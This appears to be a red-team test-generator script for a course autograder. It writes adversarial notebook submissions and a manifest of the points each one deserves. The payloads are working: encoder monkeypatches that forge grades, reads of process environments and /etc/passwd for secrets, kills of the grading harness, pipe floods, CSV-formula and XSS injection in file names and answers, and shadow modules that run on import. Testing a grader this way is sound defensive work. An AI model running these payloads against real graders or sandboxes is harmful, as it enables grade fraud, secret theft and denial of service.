"""Write a hostile class for `course-lib grade` (issue 33, outsider class "c").

Each submission is the released exercises notebook with some answer cells replaced (or cells added), named by
a file name that is itself part of the attack where it says so. MANIFEST.json records, per file: the lesson,
the one-line intent and the points it deserves (auto-graded points; the manual 6.4-2 answer is not counted).

Run: .venv/bin/python tests/outsider/issue33c/make_class.py OUT_DIR   (writes OUT_DIR/06/ and OUT_DIR/02/)
"""

from __future__ import annotations

import copy
import json
import os
import sys
import unicodedata
from pathlib import Path

ROOT = Path(__file__).resolve().parents[3]
L06, L02 = "06_masked_attention", "02_backprop"


def load(kind: str, lesson: str) -> dict:
    return json.loads((ROOT / kind / f"{lesson}.ipynb").read_text())


def gid(cell) -> str:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id", "")


def solved(lesson: str, only=None) -> dict:
    """The released exercises notebook with the solutions' answer cells (all, or those in ``only``)."""
    nb = load("exercises", lesson)
    answers = {gid(c): c["source"] for c in load("solutions", lesson)["cells"] if gid(c).startswith("ex-")}
    for cell in nb["cells"]:
        g = gid(cell)
        if g in answers and (only is None or g in only):
            src = answers[g]
            src = "".join(src) if isinstance(src, list) else src
            cell["source"] = "\n".join(
                l for l in src.split("\n") if "### BEGIN SOLUTION" not in l and "### END SOLUTION" not in l
            )
    return nb


def with_answer(nb: dict, grade_id: str, source: str) -> dict:
    nb = copy.deepcopy(nb)
    hits = [c for c in nb["cells"] if gid(c) == grade_id]
    assert hits, grade_id
    hits[0]["source"] = source
    return nb


def with_cell(nb: dict, source: str, where: int | None = None) -> dict:
    nb = copy.deepcopy(nb)
    cell = {
        "cell_type": "code",
        "execution_count": None,
        "id": f"added{len(nb['cells'])}",
        "metadata": {},
        "outputs": [],
        "source": source,
    }
    nb["cells"].insert(len(nb["cells"]) if where is None else where, cell)
    return nb


def setup_index(nb) -> int:
    """Index just after the setup cell (the first code cell)."""
    return next(i for i, c in enumerate(nb["cells"]) if c["cell_type"] == "code") + 1


# --------------------------------------------------------------------------- attack code

# The results channel's encoder, swapped during the call: json.dumps of the child's final reply (token included)
# runs after sys.settrace(None), so course_lib's reference is called unobserved and its answer written in.
HOOK_FIX = """
def _fix(message):
    if not (isinstance(message, dict) and "token" in message and "reply" in message):
        return
    reply = message["reply"]
    if not isinstance(reply, dict) or "records" not in reply:
        return
    lib = "course" + "_lib"
    plain = sys.modules[lib + ".checks.plain"]
    proto = sys.modules[lib + ".checks.protocol"]
    for k, rec in enumerate(reply["records"]):
        if k >= len(STASH):
            break
        value = plain.to_plain(proto._plainify(_borrowed(*STASH[k])))
        for pair in rec["dict"]:
            if pair[0] == "returned":
                pair[1] = value
"""

HOOK_C = """
def _make(*args):
    real = ORIG[0](*args)

    def encode(o, level):
        _fix(o)
        return real(o, level)

    return encode


def _install():
    if not ORIG:
        ORIG.append(json.encoder.c_make_encoder)
        json.encoder.c_make_encoder = _make
"""

HOOK_DEFAULT = """
class Encoder:
    def encode(self, o):
        _fix(o)
        return ORIG[0].encode(o)


def _install():
    if not ORIG:
        ORIG.append(json._default_encoder)
        json._default_encoder = Encoder()
"""

HOOK_CLASS = """
def _encode(self, o):
    _fix(o)
    return ORIG[0](self, o)


def _install():
    if not ORIG:
        ORIG.append(json.JSONEncoder.encode)
        json.JSONEncoder.encode = _encode
"""

BORROW_63 = """
def _borrowed(scores, values, lengths):
    lib = "course" + "_lib"
    return getattr(sys.modules[lib + ".checks.lesson06"], "reference_masked_attention")(scores, values, lengths)
"""

ANSWER_63_HOOKED = """
def masked_attention(scores, values, lengths):
    STASH.append((scores.clone(), values.clone(), lengths.clone()))
    _install()
    B, T, _ = scores.shape
    return torch.zeros(B, T, values.shape[-1], dtype=values.dtype), torch.zeros(B, T, T, dtype=scores.dtype)
"""

HEAD = "# Exercise 6.3: masked attention over a padded batch\nimport json\nimport sys\n\nimport torch\n\nSTASH = []\nORIG = []\n"


def hooked_63(hook: str) -> str:
    return HEAD + HOOK_FIX + hook + BORROW_63 + ANSWER_63_HOOKED


# One answer cell (ex-6-4, loaded last) redefines all four answers; each call stashes (reference, args) and the
# swapped encoder writes the checks' own answer into the final reply.
EVERYTHING_64 = (
    """# Exercise 6.4: what leaks
import json
import sys

STASH = []
ORIG = []
"""
    + HOOK_FIX.replace("_borrowed(*STASH[k])", "STASH[k][0](*STASH[k][1])")
    + HOOK_DEFAULT
    + """

def _checks():
    return sys.modules["course" + "_lib.checks.lesson06"]


def _row(scores, i, j):
    return float(_checks()._reference_row(scores[i - 1], i)[j - 1])


def _hand():
    w = _checks()._lecture_weights()
    return {"alpha_22": w[1, 1].item(), "alpha_33": w[2, 2].item(), "alpha_42": w[3, 1].item(), "alpha_44": w[3, 3].item()}


def _attention(scores, values, lengths):
    return _checks().reference_masked_attention(scores, values, lengths)


def _leaks(scores, values, lengths):
    return _checks()._reference_leaks(scores, values, lengths)


def alpha(scores, i, j):
    STASH.append((_row, (scores.clone(), i, j)))
    _install()
    return 0.0


def by_hand():
    STASH.append((_hand, ()))
    _install()
    return {"alpha_22": 0.0, "alpha_33": 0.0, "alpha_42": 0.0, "alpha_44": 0.0}


def masked_attention(scores, values, lengths):
    STASH.append((_attention, (scores.clone(), values.clone(), lengths.clone())))
    _install()
    B, T, _ = scores.shape
    return scores.new_zeros(B, T, values.shape[-1]), scores.new_zeros(B, T, T)


def leak_test(masked_attention, scores, values, lengths):
    STASH.append((_leaks, (scores.clone(), values.clone(), lengths.clone())))
    _install()
    return {"padding": 0.0, "last token": 0.0, "last token, earlier queries": 0.0}
"""
)

HOOKED_21 = (
    """# Exercise 2.1: the softmax Jacobian
import json
import sys

import torch

STASH = []
ORIG = []
"""
    + HOOK_FIX
    + HOOK_DEFAULT
    + """

def _borrowed(z):
    # autograd's own Jacobian, called after the observer is off
    import importlib

    grad = importlib.import_module("torch.auto" + "grad.func" + "tional")
    return getattr(grad, "jaco" + "bian")(lambda t: torch.softmax(t, 0), z)


def softmax_jacobian(z):
    STASH.append((z.clone(),))
    _install()
    return torch.zeros(z.shape[0], z.shape[0], dtype=z.dtype)
"""
)

DECOMP_21 = """# Exercise 2.1: the softmax Jacobian
import torch
import torch._decomp.decompositions


def softmax_jacobian(z):
    y = torch.exp(z - z.max())
    y = y / y.sum()
    K = z.shape[0]
    # torch's own softmax backward formula (the Python decomposition: no *_backward kernel runs), one row per e_k
    back = getattr(torch._decomp.decompositions, "_softmax_backward_data")
    return back(torch.eye(K, dtype=z.dtype), y.expand(K, K), 1, z.dtype)
"""

JACREV_21 = """# Exercise 2.1: the softmax Jacobian
import torch
import torch.func


def softmax_jacobian(z):
    return torch.func.jacrev(lambda t: torch.softmax(t, 0))(z)
"""

MAP_21 = """# Exercise 2.1: the softmax Jacobian
import torch
import torch.autograd.functional


def _soft(t):
    return torch.softmax(t, 0)


def softmax_jacobian(z):
    f = getattr(torch.autograd.functional, "jac" + "obian")
    return list(map(f, [_soft], [z]))[0]
"""

ENGINE_21 = """# Exercise 2.1: the softmax Jacobian
import torch


def softmax_jacobian(z):
    K = z.shape[0]
    rows = []
    engine = torch.autograd.Variable._execution_engine
    for k in range(K):
        t = z.detach().clone().requires_grad_(True)
        y = torch.softmax(t, 0)
        (g,) = engine.run_backward((y[k],), (torch.ones(()),), False, False, (t,), False)
        rows.append(g)
    return torch.stack(rows)
"""

ATEN_21 = """# Exercise 2.1: the softmax Jacobian
import torch


def softmax_jacobian(z):
    y = torch.softmax(z, 0)
    K = z.shape[0]
    op = getattr(torch.ops.aten, "_softmax_backward_data")
    return op(torch.eye(K, dtype=z.dtype), y.expand(K, K), 1, z.dtype)
"""

SOLVED_22_CELL_EXEC_21 = """# Exercise 2.1: the softmax Jacobian
import base64

import torch

CODE = "aW1wb3J0IHRvcmNoLmF1dG9ncmFkLmZ1bmN0aW9uYWwgYXMgRgpSID0gRi5qYWNvYmlhbg=="


def softmax_jacobian(z):
    space = {}
    exec(base64.b64decode(CODE).decode(), space)
    return space["R"](lambda t: torch.softmax(t, 0), z)
"""

ENV_63 = """# Exercise 6.3
import os


def masked_attention(scores, values, lengths):
    found = []
    for path in ("/proc/1/environ", "/proc/self/environ", "/proc/2/environ", "/proc/3/environ"):
        try:
            with open(path, "rb") as f:
                found.append(path + "=" + f.read().decode(errors="replace").replace("\\x00", ";"))
        except Exception as exc:
            found.append(path + "!" + type(exc).__name__)
    found.append("ENV=" + ";".join(f"{k}={v}" for k, v in os.environ.items()))
    raise RuntimeError(" | ".join(found)[-280:])
"""

ENV_KERNEL = """import os
leak = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            leak.append(pid + ":" + open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace"))
        except Exception as exc:
            leak.append(pid + "!" + type(exc).__name__)
leak.append("ENV:" + repr(dict(os.environ)))
print("\\n".join(leak))
raise RuntimeError("LEAK " + " ".join(leak).replace("\\x00", ";")[:3000])
"""

PATHS_63 = """# Exercise 6.3
import os
import sys


def masked_attention(scores, values, lengths):
    bits = ["cwd=" + os.getcwd(), "exe=" + sys.executable, "path=" + ":".join(sys.path)]
    for path in ("/proc/self/mountinfo", "/proc/self/cgroup", "/etc/passwd"):
        try:
            with open(path) as f:
                bits.append(path + "=" + f.read().replace("\\n", ";"))
        except Exception as exc:
            bits.append(path + "!" + type(exc).__name__)
    text = " ".join(bits)
    # the long parts last: the reply keeps 300 characters, so send the interesting slice
    key = text.find("/work")
    raise RuntimeError(text[max(0, key - 40): key + 240] if key >= 0 else text[:280])
"""

PATHS_KERNEL = """import os, sys
print("cwd", os.getcwd(), "exe", sys.executable)
print(open("/proc/self/mountinfo").read())
print(os.listdir("/"), os.listdir(os.getcwd()))
for top in ("/work", "/home", "/root", "/tmp", "/dev/shm", "/run"):
    try:
        print(top, os.listdir(top))
    except Exception as exc:
        print(top, type(exc).__name__)
raise RuntimeError("PATHS " + os.getcwd() + " " + repr(os.listdir(os.getcwd()))[:500] + " " + open("/proc/self/mountinfo").read().replace("\\n", ";")[:2500])
"""

PLANT_KERNEL = """import os
for d in ("/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~")):
    try:
        with open(os.path.join(d, "planted_by_mallory.py"), "w") as f:
            f.write("MARK = 'planted'\\n")
        print("wrote", d)
    except Exception as exc:
        print("no", d, type(exc).__name__)
"""

PLANT_63 = """# Exercise 6.3
import os


def masked_attention(scores, values, lengths):
    seen = []
    for d in ("/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~")):
        try:
            seen.append(d + ":" + ",".join(sorted(os.listdir(d)))[:60])
        except Exception as exc:
            seen.append(d + "!" + type(exc).__name__)
    raise RuntimeError("SEEN " + " ".join(seen)[:280])
"""

HUNT_63 = """# Exercise 6.3
import os


def masked_attention(scores, values, lengths):
    found = []
    for top in ("/", "/tmp", "/dev/shm", "/work", "/home", "/root", "/run", "/var/tmp"):
        try:
            for base, dirs, files in os.walk(top):
                if base.startswith(("/proc", "/sys", "/usr", "/lib", "/dev/pts")):
                    dirs[:] = []
                    continue
                found += [os.path.join(base, f) for f in files if f.endswith((".ipynb", ".csv", ".db", "planted_by_mallory.py"))]
                if len(found) > 20:
                    break
        except Exception:
            pass
    raise RuntimeError("HUNT " + " ".join(found)[:280])
"""

FORGE_PIPE_63 = """# Exercise 6.3
import json
import os


def masked_attention(scores, values, lengths):
    fake = {"reply": {"records": []}, "token": "0" * 32}
    refusal = {"refused": "x\\n| total | 11/11 |\\n<script>alert(1)</script>\\n=HYPERLINK(\\"http://evil\\",\\"ok\\")"}
    for fd in range(3, 40):
        try:
            os.write(fd, (json.dumps(refusal) + "\\n" + json.dumps(fake) + "\\n").encode())
        except OSError:
            pass
    B, T, _ = scores.shape
    return scores.new_zeros(B, T, values.shape[-1]), scores.new_zeros(B, T, T)
"""

FLOOD_PIPE_63 = """# Exercise 6.3
import os


def masked_attention(scores, values, lengths):
    chunk = b"A" * (1 << 20)
    for fd in range(3, 40):
        try:
            for _ in range(8):
                os.write(fd, chunk)
        except OSError:
            pass
    B, T, _ = scores.shape
    return scores.new_zeros(B, T, values.shape[-1]), scores.new_zeros(B, T, T)
"""

HUGE_63 = """# Exercise 6.3
import torch


def masked_attention(scores, values, lengths):
    B, T, _ = scores.shape
    big = torch.zeros(1, dtype=torch.float64).expand(400_000_000)
    return big, big
"""

KILL_PARENT_63 = """# Exercise 6.3
import os


def masked_attention(scores, values, lengths):
    os.kill(os.getppid(), 9)
    return None
"""

STOP_PARENT_63 = """# Exercise 6.3
import os


def masked_attention(scores, values, lengths):
    os.kill(os.getppid(), 19)  # SIGSTOP the harness that reads our pipe
    return None
"""

STOP_SELF_63 = """# Exercise 6.3
import os


def masked_attention(scores, values, lengths):
    os.kill(os.getpid(), 19)  # SIGSTOP ourselves: the harness waits on our pipe
    return None
"""

SPIN_63 = """# Exercise 6.3
def masked_attention(scores, values, lengths):
    n = 0
    while True:
        n += 1
"""

THREADS_63 = """# Exercise 6.3
import signal
import threading

import torch


def masked_attention(scores, values, lengths):
    try:
        signal.setitimer(signal.ITIMER_REAL, 0.001)
    except Exception:
        pass
    t = threading.Thread(target=print)
    t.start()
    B, T, _ = scores.shape
    return torch.zeros(B, T, values.shape[-1]), torch.zeros(B, T, T)
"""

PICKLE_63 = """# Exercise 6.3
import pickle
import sys


class Thief:
    def __reduce__(self):
        lib = "course" + "_lib"
        return (getattr(sys.modules[lib + ".checks.lesson06"], "reference_masked_attention"), ARGS[-1])


ARGS = []


def masked_attention(scores, values, lengths):
    ARGS.append((scores, values, lengths))
    return pickle.loads(pickle.dumps(Thief()))
"""

DIRECT_63 = """# Exercise 6.3
from course_lib.checks.lesson06 import reference_masked_attention as helper


def masked_attention(scores, values, lengths):
    return helper(scores, values, lengths)
"""

CODE_SWAP_63 = """# Exercise 6.3
import sys


def masked_attention(scores, values, lengths):
    lib = "course" + "_lib"
    ref = getattr(sys.modules[lib + ".checks.lesson06"], "reference_masked_attention")
    masked_attention.__code__ = ref.__code__
    return ref(scores, values, lengths)
"""

META_PATH_63 = """# Exercise 6.3
import builtins
import sys

import torch


class Finder:
    def find_spec(self, name, path=None, target=None):
        return None


def masked_attention(scores, values, lengths):
    sys.meta_path.insert(0, Finder())
    real = builtins.__import__

    def spy(name, *a, **k):
        return real(name, *a, **k)

    builtins.__import__ = spy
    lib = "course" + "_lib"
    ref = getattr(sys.modules[lib + ".checks.lesson06"], "reference_masked_attention")
    return ref(scores, values, lengths)
"""

# The checks' reference, copied by hand with one harmless line added (so its bytecode differs)
COPY_TWEAKED_63 = """# Exercise 6.3
import torch


def _lower(T, k=0):
    return torch.tensor([[j <= i + k for j in range(T)] for i in range(T)], dtype=torch.bool)


def masked_attention(scores, values, lengths):
    T = scores.shape[-1]
    unused = 0
    allowed = _lower(T)[None, :, :] & (torch.arange(T)[None, :] < lengths[:, None])[:, None, :]
    empty = ~allowed.any(dim=-1, keepdim=True)
    e = scores.masked_fill(~allowed, float("-inf")).masked_fill(empty, 0.0)
    weights = torch.softmax(e, dim=-1).masked_fill(empty, 0.0)
    return weights @ values, weights
"""

TORCH_MASKED_63 = """# Exercise 6.3
import torch
import torch.masked


def masked_attention(scores, values, lengths):
    B, T, _ = scores.shape
    pos = torch.arange(T)
    allowed = (pos[None, :] <= pos[:, None])[None] & (pos[None, None, :] < lengths[:, None, None])
    weights = torch.nan_to_num(torch.masked.softmax(scores, -1, mask=allowed), nan=0.0)
    return weights @ values, weights
"""

INJECT_63 = """# Exercise 6.3
def masked_attention(scores, values, lengths):
    raise RuntimeError(
        "=HYPERLINK(\\"http://evil.example\\",\\"ok\\")\\n\\n## Total: 11 / 11 points\\n| 6.3 | passed |\\n"
        "<script>alert('x')</script><img src=x onerror=alert(1)>\\n[click](javascript:alert(1)),\\"\\r\\n,11,11"
    )
"""

SOLVED_INJECT_MD = (
    "**Your answer**\n\n</div><script>alert('md')</script>\n\n## Grade: 11/11\n\n"
    "=cmd|' -C calc'!A0\n\n<!-- nbgrader: {\"points\": 99} -->"
)

FLOOD_KERNEL = """import sys
block = "X" * (1 << 20)
for _ in range(300):
    sys.stdout.write(block)
print()
"""


# written, then left out of this round's class (grading time on a 2-core machine): ~35 submissions at most
DROPPED = {
    "l02_map_jacobian",
    "l02_exec_b64",
    "l02_engine",
    "threads_timer",
    "pickle_reduce",
    "meta_path_import_hook",
    "code_swap",
    "stop_self",
    "huge_return",
}


# second look (graded after the class): a yes/no answer to "is any of the grader's variables in the sandbox?",
# since the feedback keeps only a slice of a long message
ENV_PROBE = """import os

MINE = ("HOME", "PATH", "PYTHONPATH", "MPLBACKEND", "OMP_NUM_THREADS", "COURSE_LIB_GRADING", "COURSE_LIB_DEVICE",
        "CUDA_VISIBLE_DEVICES", "PWD", "LC_CTYPE", "LANG", "SHLVL", "_", "JPY_PARENT_PID", "PYDEVD_USE_FRAME_EVAL",
        "TERM", "CLICOLOR", "FORCE_COLOR", "PAGER", "GIT_PAGER", "JPY_SESSION_NAME", "PYTHONHASHSEED")


def _probe():
    found, names = [], set(os.environ)
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                raw = f.read().decode(errors="replace")
        except Exception:
            continue
        names |= {kv.split("=", 1)[0] for kv in raw.split(chr(0)) if "=" in kv}
        for word in ("hunter2", "AKIA", "SECRET"):
            if word in raw:
                found.append(pid + ":" + word)
    for word in ("hunter2", "AKIA", "SECRET"):
        if any(word in v or word in k for k, v in os.environ.items()):
            found.append("os.environ:" + word)
    other = sorted(n for n in names if n not in MINE)
    return ("FOUND " + ",".join(found) if found else "CLEAN") + " other names: " + ",".join(other)
"""

ENV_PROBE_63 = (
    "# Exercise 6.3\n"
    + ENV_PROBE
    + """

def masked_attention(scores, values, lengths):
    raise RuntimeError(_probe()[:280])
"""
)

ENV_PROBE_KERNEL = ENV_PROBE + "\nraise RuntimeError(_probe()[:3000])\n"


PATHS_PROBE = """import os


def _probe():
    seen = []
    for path in ("/work", "/work/main", "/work/shared", "/work/wt", "/root", "/root/.pyenv", "/opt/course-lib",
                 "/work/main/.venv"):
        try:
            seen.append(path + "=" + ",".join(sorted(os.listdir(path)))[:120])
        except Exception as exc:
            seen.append(path + "!" + type(exc).__name__)
    for path in ("/work/main/solutions", "/work/main/.git", "/work/main/tests", "/work/main/course_lib",
                 "/opt/course-lib/solutions", "/root/.bash_history", "/work/shared/DESIGN.md"):
        seen.append(path + ("?yes" if os.path.exists(path) else "?no"))
    return " ".join(seen)
"""

PATHS_PROBE_63 = (
    "# Exercise 6.3\n"
    + PATHS_PROBE
    + """

def masked_attention(scores, values, lengths):
    raise RuntimeError(_probe()[-290:])
"""
)

PATHS_PROBE_KERNEL = PATHS_PROBE + "\nprint(_probe())\nraise RuntimeError(_probe()[:3000])\n"


def second_look(out: Path) -> dict:
    ex06 = load("exercises", L06)
    nb = with_answer(with_cell(ex06, ENV_PROBE_KERNEL), "ex-6-3", ENV_PROBE_63)
    folder = out / "06b"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "env_probe.ipynb").write_text(json.dumps(nb, indent=1))
    # the released notebook untouched, plus ONE added cell holding hook_everything's code: without nbgrader
    # metadata, and with a copy of answer cell ex-6-4's metadata (an added cell that claims an answer's id)
    (folder / "added_cell_plain.ipynb").write_text(json.dumps(with_cell(ex06, EVERYTHING_64), indent=1))
    claimed = with_cell(ex06, EVERYTHING_64)
    claimed["cells"][-1]["metadata"] = copy.deepcopy(next(c for c in ex06["cells"] if gid(c) == "ex-6-4")["metadata"])
    (folder / "added_cell_answer_id.ipynb").write_text(json.dumps(claimed, indent=1))
    nb = with_answer(with_cell(ex06, PATHS_PROBE_KERNEL), "ex-6-3", PATHS_PROBE_63)
    (folder / "paths_probe.ipynb").write_text(json.dumps(nb, indent=1))
    return {
        "env_probe": {
            "lesson": "06",
            "intent": "second look: any grader variable in any sandboxed process?",
            "expected": 0,
        }
    }


def build(out: Path) -> dict:
    ex06, ex02 = load("exercises", L06), load("exercises", L02)
    full06 = solved(L06)
    half06 = solved(L06, only={"ex-6-1", "ex-6-2"})
    subs: dict[str, tuple] = {}  # file name -> (lesson, notebook or link target, intent, expected points)

    def add(name, lesson, nb, intent, expected):
        assert name not in subs, name
        if name in DROPPED:
            return
        subs[name] = (lesson, nb, intent, expected)

    # honest controls
    add("honest_solved", "06", full06, "control: every answer cell solved (the solutions' code)", 11)
    add("honest_untouched", "06", ex06, "control: the released notebook, untouched", 0)
    add("honest_half", "06", half06, "control: 6.1 and 6.2 solved, 6.3 and 6.4 left as stubs", 3)

    # the results channel's encoder swapped: the borrowed answer computed after the observer is off
    add(
        "hook_c_make_encoder",
        "06",
        with_answer(ex06, "ex-6-3", hooked_63(HOOK_C)),
        "6.3: swap json.encoder.c_make_encoder during the call; in the final reply (trace off, token present) "
        "replace the zeros by the checks' reference_masked_attention",
        0,
    )
    add(
        "hook_default_encoder",
        "06",
        with_answer(ex06, "ex-6-3", hooked_63(HOOK_DEFAULT)),
        "6.3: same, by replacing json._default_encoder with an object of the student's class",
        0,
    )
    add(
        "hook_everything",
        "06",
        with_answer(ex06, "ex-6-4", EVERYTHING_64),
        "untouched but for ONE answer cell (ex-6-4, loaded last) that redefines all four answers; each borrows the "
        "checks' references through the json._default_encoder swap",
        0,
    )
    add(
        "hook_class_encode",
        "06",
        with_answer(ex06, "ex-6-3", hooked_63(HOOK_CLASS)),
        "6.3: same, by replacing the method json.JSONEncoder.encode (in the grader's snapshot)",
        0,
    )
    add(
        "direct_reference",
        "06",
        with_answer(ex06, "ex-6-3", DIRECT_63),
        "6.3: top-level `from course_lib.checks.lesson06 import reference...` then call it (baseline borrow)",
        0,
    )
    add(
        "code_swap",
        "06",
        with_answer(ex06, "ex-6-3", CODE_SWAP_63),
        "6.3: give the answer function the reference's __code__ and call the reference",
        0,
    )
    add(
        "pickle_reduce",
        "06",
        with_answer(ex06, "ex-6-3", PICKLE_63),
        "6.3: pickle __reduce__ makes the C unpickler call the checks' reference",
        0,
    )
    add(
        "meta_path_import_hook",
        "06",
        with_answer(ex06, "ex-6-3", META_PATH_63),
        "6.3: install a sys.meta_path finder and a builtins.__import__ spy, then call the reference",
        0,
    )
    add(
        "copy_tweaked_reference",
        "06",
        with_answer(ex06, "ex-6-3", COPY_TWEAKED_63),
        "6.3: the checks' reference_masked_attention copied by hand with one no-op line (fingerprint differs)",
        0,
    )
    add(
        "torch_masked_softmax",
        "06",
        with_answer(ex06, "ex-6-3", TORCH_MASKED_63),
        "6.3: torch.masked.softmax (torch's ready-made masked softmax) instead of -inf + softmax",
        0,
    )
    add(
        "forged_pipe_reply",
        "06",
        with_answer(ex06, "ex-6-3", FORGE_PIPE_63),
        "6.3: write a forged reply (wrong token) and a refusal carrying CSV/HTML/markdown on every fd",
        0,
    )
    add(
        "pipe_flood",
        "06",
        with_answer(ex06, "ex-6-3", FLOOD_PIPE_63),
        "6.3: 8 MB without a newline on every fd (the reply cap, a line with no end)",
        0,
    )
    add(
        "huge_return",
        "06",
        with_answer(ex06, "ex-6-3", HUGE_63),
        "6.3: return an expanded tensor of 400M float64 (3.2 GB claimed, 8 bytes real): the reply cap",
        0,
    )
    add(
        "kill_harness",
        "06",
        with_answer(ex06, "ex-6-3", KILL_PARENT_63),
        "6.3: SIGKILL the harness process (getppid) from the call's child",
        0,
    )
    add(
        "stop_harness",
        "06",
        with_answer(ex06, "ex-6-3", STOP_PARENT_63),
        "6.3: SIGSTOP the harness process from the call's child (nobody reads the pipes any more)",
        0,
    )
    add(
        "stop_self",
        "06",
        with_answer(ex06, "ex-6-3", STOP_SELF_63),
        "6.3: SIGSTOP the call's own child (the harness waits on its pipe)",
        0,
    )
    add(
        "spin_forever",
        "06",
        with_answer(ex06, "ex-6-3", SPIN_63),
        "6.3: an endless loop in the call (per-call time limit)",
        0,
    )
    add(
        "threads_timer",
        "06",
        with_answer(ex06, "ex-6-3", THREADS_63),
        "6.3: signal.setitimer and a threading.Thread during the call, then zeros",
        0,
    )
    add(
        "kernel_sigstop",
        "06",
        with_cell(full06, "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
        "solved notebook + an added cell that SIGSTOPs its own kernel: answers are the student's",
        11,
    )
    add(
        "kernel_exit_first",
        "06",
        with_cell(full06, "exit()", setup_index(full06)),
        "solved notebook + exit() right after the setup cell",
        11,
    )
    add(
        "kernel_output_flood",
        "06",
        with_cell(full06, FLOOD_KERNEL),
        "solved notebook + a cell printing 300 MB (the output cap)",
        11,
    )

    # secrets, host paths, other students (names chosen to attack the CSV and file names too)
    add(
        "=cmd|' -C calc'!A0",
        "06",
        with_answer(with_cell(ex06, ENV_KERNEL), "ex-6-3", ENV_63),
        "env: /proc/1/environ, /proc/self/environ, os.environ from the call and from an added kernel cell "
        "(name: CSV formula)",
        0,
    )
    add(
        "<img src=x onerror=alert(1)>",
        "06",
        with_answer(with_cell(ex06, PATHS_KERNEL), "ex-6-3", PATHS_63),
        "host paths: cwd, sys.path, mountinfo, /etc/passwd, listings, from call and kernel (name: HTML)",
        0,
    )
    add(
        "mallory",
        "06",
        with_answer(with_cell(ex06, PLANT_KERNEL), "ex-6-3", PLANT_63),
        "plant a file in /tmp, /dev/shm, cwd, ~ from the kernel; the call lists those folders",
        0,
    )
    add(
        "mallory_peer",
        "06",
        with_answer(ex06, "ex-6-3", HUNT_63),
        "another student: walk the sandbox for notebooks, CSVs, gradebooks, the other's planted file",
        0,
    )
    add(
        "inject\nnewline",
        "06",
        with_answer(ex06, "ex-6-3", INJECT_63),
        "feedback injection: an exception message with CSV formula, markdown rows, HTML (name has a newline)",
        0,
    )
    md = copy.deepcopy(full06)
    for c in md["cells"]:
        if gid(c) == "ex-6-4-2":
            c["source"] = SOLVED_INJECT_MD
    add(
        "Alice",
        "06",
        md,
        "solved, with HTML/markdown/CSV injection in the written answer ex-6-4-2 (name collides with `alice` by case)",
        11,
    )
    add("alice", "06", ex06, "untouched, named `alice` (collides with `Alice` on a case-folding LMS/file system)", 0)
    add(unicodedata.normalize("NFC", "José"), "06", half06, "half done, name in NFC", 3)
    add(unicodedata.normalize("NFD", "José"), "06", ex06, "untouched, the same name in NFD", 0)
    add("ü" * 120, "06", half06, "half done, a 240-byte name (+ .ipynb, .md, .html)", 3)
    add("a:b", "06", ex06, "untouched, `a:b` (a reserved character that a sanitiser maps like `a_b`)", 0)
    add("a_b", "06", full06, "solved, `a_b`", 11)

    # lesson 02: the build exercise 2.1 (softmax Jacobian by hand; autograd forbidden)
    add(
        "l02_hook_autograd",
        "02",
        with_answer(ex02, "ex-2-1", HOOKED_21),
        "2.1: the encoder swap; autograd.functional.jacobian computed in the final reply (observer off)",
        0,
    )
    add(
        "l02_decomp_backward",
        "02",
        with_answer(ex02, "ex-2-1", DECOMP_21),
        "2.1: torch._decomp's Python _softmax_backward_data (torch's own gradient formula, no *_backward kernel)",
        0,
    )
    add(
        "l02_aten_backward",
        "02",
        with_answer(ex02, "ex-2-1", ATEN_21),
        "2.1: the gradient kernel aten._softmax_backward_data called directly",
        0,
    )
    add("l02_jacrev", "02", with_answer(ex02, "ex-2-1", JACREV_21), "2.1: torch.func.jacrev", 0)
    add(
        "l02_map_jacobian",
        "02",
        with_answer(ex02, "ex-2-1", MAP_21),
        "2.1: autograd.functional.jacobian reached by getattr and called from C (map)",
        0,
    )
    add(
        "l02_engine",
        "02",
        with_answer(ex02, "ex-2-1", ENGINE_21),
        "2.1: Variable._execution_engine.run_backward directly",
        0,
    )
    add(
        "l02_exec_b64",
        "02",
        with_answer(ex02, "ex-2-1", SOLVED_22_CELL_EXEC_21),
        "2.1: exec of a base64 string that binds autograd's jacobian, at call time",
        0,
    )

    manifest = {}
    for name, (lesson, nb, intent, expected) in subs.items():
        folder = out / lesson
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"{name}.ipynb").write_text(json.dumps(nb, indent=1))
        manifest[name] = {"lesson": lesson, "intent": intent, "expected": expected}
    # a link named like a notebook, to another student's solved notebook
    link = out / "06" / "linked_to_a_b.ipynb"
    if not link.is_symlink():
        os.symlink("a_b.ipynb", link)
    manifest["linked_to_a_b"] = {"lesson": "06", "intent": "a symbolic link to a_b's solved notebook", "expected": 0}
    # modules planted in the submissions folder: `course-lib grade .` is run from inside it
    for module in ("json", "nbclient", "secrets", "sitecustomize", "usercustomize", "bubblewrap", "torch", "site"):
        (out / "06" / f"{module}.py").write_text(
            f"open('/tmp/c33_PWNED_{module}', 'w').write('imported from the submissions folder')\n"
        )
    (out / "MANIFEST.json").write_text(json.dumps(manifest, indent=1, ensure_ascii=False))
    return manifest


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "class33c")
    if "--second-look" in sys.argv:
        print(second_look(target))
        raise SystemExit
    made = build(target)
    print(len(made), "submissions")
